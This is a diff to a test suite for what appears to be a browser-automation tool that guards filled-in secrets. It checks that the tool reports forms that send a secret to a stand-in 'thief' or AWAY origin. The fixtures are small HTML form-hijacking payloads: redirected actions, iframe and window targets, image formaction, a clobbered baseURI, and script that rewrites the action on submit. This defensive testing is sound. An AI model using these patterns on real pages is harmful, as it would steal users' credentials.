@@ -182,6 +182,11 @@ FORMS = {
     "by its id": "<form id=f action=AWAY></form><input name=user form=f>",
     "hidden by a field": "<form action=AWAY><input name=user><input name=action></form>",
     "hidden method": "<form action=AWAY><input name=user><input name=getAttribute></form>",
+    "get": "<form method=get action=AWAY><input name=user></form>",
+    "frame": "<form action=AWAY target=f><input name=user></form><iframe name=f></iframe>",
+    "window": "<form method=post action=AWAY target=_blank><input name=user></form>",
+    "image": "<form><input name=user><input type=image formaction=AWAY formtarget=_blank></form>",
+    "hidden base": "<img name=baseURI><form action=AWAY><input name=user></form>",
     "base": "<base href=AWAY><form action=/got><input name=user></form>",
     "on input": """<form><input name=user></form><script>const [form] = document.forms;
       form.oninput = () => form.setAttribute('action', 'AWAY')</script>""",
@@ -200,6 +205,57 @@ async def test_a_form_that_posts_elsewhere_gets_no_secret(page, bank, thief, for
     held = await page("evaluate", text="document.querySelector('[name=user]').value")
     assert held.startswith('""')
     assert "Filled" in await page("fill", selector="[name=user]", value="Ada")
+
+
+@pytest.mark.parametrize("method", ["get", "post", "post target=f", "post target=_blank"])
+async def test_a_form_that_is_led_elsewhere_as_it_is_sent_is_told(page, bank, thief, method):
+    shown = f"""<form method={method}><input name=user><button>Go</button></form>
+      <iframe name=f src=/blank></iframe><script>const [form] = document.forms;
+      form.onsubmit = () => form.setAttribute('action', '{thief}/got')</script>"""
+    await page("navigate", url=f"{bank}/blank")
+    await page("evaluate", text=f"document.open(); document.write({shown!r}); document.close(); 0")
+    await page("fill", selector="[name=user]", value="{{shop}}")
+    told = [await page("click", selector="button"), await page("list_pages")]
+    told += [await page("snapshot", target_id=each.split()[0]) for each in told[1].splitlines()]
+    assert f"The page sent the secret 'shop' to '{thief}', which it is not for." in "".join(told)
+
+
+async def test_a_file_that_shows_a_secret_and_an_address_that_has_it_are_told(page, bank):
+    await page("navigate", url=f"{bank}/own")
+    form = "<form><input name=user><button>Go</button></form><p>PART</p>"
+    for shows in (False, True):
+        shown = form.replace("PART", TOKEN if shows else "no value")
+        write = f"document.open(); document.write({shown!r}); document.close(); 0"
+        await page("evaluate", text=write)
+        await page("fill", selector="[name=user]", value="{{shop}}")
+        told = await page("pdf", output="page.pdf")
+        assert ("The file shows the value of the secret 'shop'." in told) == shows
+    told = await page("click", selector="button")
+    assert "The secret 'shop' is in the address, which the history keeps." in told
+    assert TOKEN not in told
+
+
+SECOND = "127.0.0.1", "localhost"
+
+
+async def test_a_form_may_post_to_each_origin_of_a_secret(tmp_path, bank, thief):
+    accounts = str(thief).replace(*SECOND)
+    secrets = {"both": {"value": TOKEN, "origins": [str(bank), accounts]}}
+    tables = {"browser": ANY_BROWSER}
+    shown = f"<form method=post action={accounts}/got><input name=user><button>Go</button></form>"
+    async with testing.router(
+        home=tmp_path, network="local", plugins=tables, secrets=secrets
+    ) as own:
+        thief.requests.clear()
+        await own(resource="browser", action="launch")
+        await own(resource="browser", action="navigate", url=f"{bank}/blank")
+        write = f"document.open(); document.write({shown!r}); document.close(); 0"
+        await own(resource="browser", action="evaluate", text=write)
+        filled = {"selector": "[name=user]", "value": "{{both}}"}
+        assert "Filled" in (await own(resource="browser", action="fill", **filled)).text
+        told = await own(resource="browser", action="click", selector="button")
+        assert "sent the secret" not in told.text
+        assert sent(thief) == [f"user={TOKEN}"]
 
 
 @pytest.mark.parametrize("action", ["fill", "type"])
